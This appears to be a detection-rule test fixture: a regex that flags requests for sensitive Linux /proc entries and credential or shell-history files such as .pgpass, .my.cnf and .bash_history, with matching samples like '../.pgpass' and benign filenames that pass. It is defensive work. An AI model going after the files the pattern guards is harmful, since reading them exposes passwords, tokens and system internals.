literal: .lesshst
regex: (?:^|[/\\])\s*(?:acpi|asound|buddyinfo|cgroups|cmdline|cpuinfo|diskstats|execdomains|filesystems|iomem|ioports|kallsyms|kcore|kmsg|kpage(?:cgroup|count|flags)|loadavg|mdstat|meminfo|mtrr|pagetypeinfo|sched_debug|schedstat|slabinfo|softirqs|sysrq-trigger|sysvipc|timer_list|timer_stats|vmallocinfo|vmstat|zoneinfo|\.(?:bash|zsh|sh|ksh|mysql|psql|python|node_repl|php|sqlite|rediscli|lldb|nano)_history|\.[lr]?history|\.zhistory|\.pgpass|\.my\.cnf|\.rhosts|\.forward|\.xauthority|\.google_authenticator|\.viminfo|\.lesshst)\s*$
test: mtrr
test: acpi
test: .bash_history
test: ../.pgpass
test: sysrq-trigger
pass: cpuinfo-report.pdf
pass: history.docx
pass: holiday-photo.jpg
